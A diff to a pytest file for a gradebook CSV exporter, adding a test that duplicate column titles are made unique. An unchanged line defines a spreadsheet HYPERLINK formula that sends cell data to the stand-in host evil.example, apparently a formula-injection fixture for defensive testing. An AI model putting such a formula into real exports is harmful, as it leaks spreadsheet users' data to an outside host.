@@ -8,7 +8,7 @@ import re
 
 import pytest
 
-from app.exchange.gradebook_csv import PointsColumn, canvas_csv, moodle_csv
+from app.exchange.gradebook_csv import PointsColumn, canvas_csv, moodle_csv, unique_titles
 from app.store import Student
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"look")'
@@ -37,6 +37,14 @@ def test_no_title_is_taken_for_one_of_canvas_own(title: str) -> None:
     for name in header:
         assert not re.search("Current Score|Final Grade|Override Status", name)
         assert not re.search(r"\(\d+\)$", name.strip())
+
+
+def test_titles_that_are_equal_get_numbers_that_no_other_title_has() -> None:
+    """Also where a title looks like one with a number; titles that are there once stay as they are."""
+    titles = ["A", "A", "A [2]", "B", "A [2]", "A"]
+    unique = list(unique_titles(titles))
+    assert len(set(unique)) == len(titles)
+    assert [unique[number] for number in (0, 2, 3)] == ["A", "A [2]", "B"]
 
 
 def test_moodle_gets_per_cent_of_those_it_can_find() -> None:
